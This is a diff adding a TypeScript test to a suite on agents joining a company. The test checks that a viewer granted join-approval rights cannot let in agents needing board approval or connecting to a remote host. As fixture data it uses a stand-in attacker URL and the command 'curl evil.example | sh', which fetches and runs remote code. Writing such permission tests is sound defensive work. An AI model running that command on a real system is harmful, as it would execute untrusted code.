@@ -226,6 +226,35 @@ describe('agents that join', () => {
     expect((await server().anonymous.post(unknown, { claimSecret })).body).toMatchObject({ code: 'not_found' })
   })
 
+  test('A viewer who was granted the decision lets in no agent that the board decides about: where this host connects to, and each where new ones need an approval (I18)', async () => {
+    const viewer = await member(server(), here.company.id, 'viewer')
+    const members = (await people.owner.client.get(`${at()}/members?limit=1000`)).body as Member[]
+    const grants = ['users:invite', 'joins:approve'].map((permissionKey) => ({ permissionKey }))
+    const its = members.find(({ principalId }) => principalId === viewer.id)
+    expect((await people.owner.client.patch(`${at()}/members/${its?.id}/permissions`, { grants })).status).toBe(200)
+    const ask = async (fields: object): Promise<string> => {
+      const { token } = await invite({ allowedJoinTypes: 'agent' }, viewer.client)
+      return (await accept(token, { requestType: 'agent', agentName: 'Joiner', ...fields })).body.id as string
+    }
+    const remote = await ask({ adapterType: 'http', agentDefaultsPayload: { url: 'https://evil.example' } })
+    const plain = await ask({ adapterType: 'process', agentDefaultsPayload: { command: 'curl evil.example | sh' } })
+    await people.owner.client.patch(at(), { requireBoardApprovalForNewAgents: true })
+    const before = await auditCount(server())
+    for (const id of [remote, plain])
+      expect((await decide(id, 'approve', viewer.client)).body).toMatchObject({
+        code: 'approval_required',
+        error: 'The board of this company approves new agents',
+      })
+    expect(await auditCount(server())).toBe(before)
+    await people.owner.client.patch(at(), { requireBoardApprovalForNewAgents: false })
+    expect((await decide(remote, 'approve', viewer.client)).body).toMatchObject({
+      code: 'approval_required',
+      details: { fields: ['adapterType', 'adapterConfig'] },
+    })
+    expect((await decide(plain, 'approve', viewer.client)).status).toBe(200)
+    expect((await decide(remote, 'approve')).status).toBe(200)
+  })
+
   test('A company without a CEO lets no agent in', async () => {
     const other = await world(server())
     const made = await boardOf(server()).post(`/api/companies/${other.company.id}/invites`, {})
